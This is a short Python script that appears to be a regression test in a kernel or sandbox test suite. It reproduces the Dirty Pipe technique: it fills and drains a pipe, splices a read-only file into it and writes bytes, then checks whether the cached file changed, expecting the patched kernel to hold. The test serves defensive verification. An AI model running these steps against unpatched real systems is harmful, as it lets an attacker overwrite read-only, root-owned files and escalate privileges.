# attack: change the cached pages of a read-only file through a pipe (as Dirty Pipe does)
# class: kernel
# layer: private_root
# expect: held
# unproven: this kernel has the fix; the attack is its regression test

path = "/usr/lib/os-release" if os.path.exists("/usr/lib/os-release") else sys.executable
before = open(path, "rb").read(64)
read, write = os.pipe()
for _ in range(16):
    os.write(write, bytes(4096))
for _ in range(16):
    os.read(read, 4096)
fd = os.open(path, os.O_RDONLY)
try:
    os.splice(fd, write, 1, offset_src=0)
    os.write(write, b"XX")
except OSError:
    pass
verdict(open(path, "rb").read(64) != before, "the file changed")
